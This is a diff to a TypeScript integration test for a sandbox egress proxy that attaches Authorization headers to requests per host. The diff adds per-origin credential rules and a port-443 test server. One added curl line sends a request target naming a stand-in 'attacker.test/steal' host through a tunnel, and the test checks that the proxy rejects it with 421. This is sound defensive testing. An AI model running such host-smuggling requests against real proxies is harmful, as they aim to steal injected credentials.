@@ -33,13 +33,18 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
   let upstreamCa: EgressCa;
   let https: Server;
   let http: Server;
+  let https443: Server;
   let httpsPort: number;
   let httpPort: number;
   const seen: { path: string | undefined; headers: IncomingHttpHeaders }[] = [];
   const logLines: string[] = [];
+  // The test hosts' address: a loopback address of this run's own, so its port 443 (what a
+  // bare-host rule means) is free of anything else on the machine.
+  const octet = () => 2 + Math.floor(Math.random() * 250);
+  const address = `127.${octet()}.${octet()}.${octet()}`;
 
-  const listen = async (server: Server) => {
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const listen = async (server: Server, port = 0) => {
+    await new Promise<void>((resolve) => server.listen(port, address, resolve));
     return (server.address() as { port: number }).port;
   };
 
@@ -58,9 +63,14 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
       { SNICallback: (name, cb) => cb(null, upstreamCa.contextFor(name)) },
       record,
     );
+    https443 = createHttpsServer(
+      { SNICallback: (name, cb) => cb(null, upstreamCa.contextFor(name)) },
+      record,
+    );
     http = createHttpServer(record);
     httpsPort = await listen(https);
     httpPort = await listen(http);
+    await listen(https443, 443);
 
     sandbox = await createSandbox(
       testSandboxConfig('docker', path.join(dir, 'sb'), { allowNetwork: true, pool: { size: 0 } }),
@@ -72,7 +82,7 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
             ...(credentialsOf ? { credentialsOf } : {}),
             // api.test and plain.test are these loopback servers, opened by name.
             policy: { allowPrivateNetworks: false, allowHosts: ['api.test', 'plain.test'] },
-            lookup: () => Promise.resolve([{ address: '127.0.0.1', family: 4 }]),
+            lookup: () => Promise.resolve([{ address, family: 4 }]),
             upstreamCa: [upstreamCa.certPem],
           }),
       },
@@ -83,7 +93,11 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
       'set -u',
       // HTTPS to the host with a rule: terminated by the proxy, trusted through SSL_CERT_FILE.
       `curl -sS -v https://api.test:${httpsPort}/secure 2>/workspace/https.log`,
+      'curl -sS https://api.test/default',
       `curl -sS http://api.test:${httpPort}/plain`,
+      // Inside the terminated tunnel to api.test, a request line naming another host: the
+      // proxy answers it (421) and the server never sees it.
+      `curl -sS -o /dev/null -w 'steal=%{http_code}\\n' --request-target https://attacker.test/steal https://api.test:${httpsPort}/`,
       // HTTPS to a host without a rule: the real host's certificate, which this sandbox does
       // not trust (-k), seen through the tunnel as it is.
       `curl -sS -k -v https://plain.test:${httpsPort}/tunnel 2>/workspace/tunnel.log`,
@@ -122,8 +136,20 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
       logger,
       services: { sandbox, workspaces: createWorkspaces(sandbox.config) },
       config: {
+        // A rule binds scheme and port: the two test servers are two origins of api.test.
         credentials: [
-          { host: 'api.test', header: 'Authorization', value: 'Bearer ${secret:api_token}' },
+          {
+            host: `https://api.test:${httpsPort}`,
+            header: 'Authorization',
+            value: 'Bearer ${secret:api_token}',
+          },
+          {
+            host: `http://api.test:${httpPort}`,
+            header: 'Authorization',
+            value: 'Bearer ${secret:api_token}',
+          },
+          // A bare host: api.test's HTTPS API on 443, and nothing else.
+          { host: 'api.test', header: 'X-Https-Only', value: '${secret:api_token}' },
         ],
         secrets: { key: randomBytes(32).toString('hex') },
       },
@@ -134,6 +160,7 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
     await stack?.close();
     await sandbox?.close();
     https?.close();
+    https443?.close();
     http?.close();
     if (dir) await rm(dir, { recursive: true, force: true });
   });
@@ -153,12 +180,22 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
     expect(outcome.result).toContain('reached /secure');
     expect(outcome.result).toContain('reached /plain');
     expect(outcome.result).toContain('reached /tunnel');
+    expect(outcome.result).toContain('steal=421');
+    expect(seen.map((s) => s.path)).not.toContain('https://attacker.test/steal');
+    expect(seen.map((s) => s.path)).not.toContain('/steal');
     expect(outcome.result).toContain('ca=/etc/toolgate/ca-bundle.pem');
 
     const by = (p: string) => seen.find((s) => s.path === p)!.headers;
     expect(by('/secure').authorization).toBe(`Bearer ${VALUE}`);
     expect(by('/plain').authorization).toBe(`Bearer ${VALUE}`);
     expect(by('/tunnel').authorization).toBeUndefined();
+    // Each rule reached its own origin only: the bare host's https on 443, nothing in clear.
+    expect(outcome.result).toContain('reached /default');
+    expect(by('/default')['x-https-only']).toBe(VALUE);
+    expect(by('/default').authorization).toBeUndefined();
+    expect(seen.filter((s) => s.headers['x-https-only'] !== undefined).map((s) => s.path)).toEqual([
+      '/default',
+    ]);
 
     // Inside the sandbox: the certificate curl was shown for api.test is the proxy's CA's; for
     // plain.test the real host's.
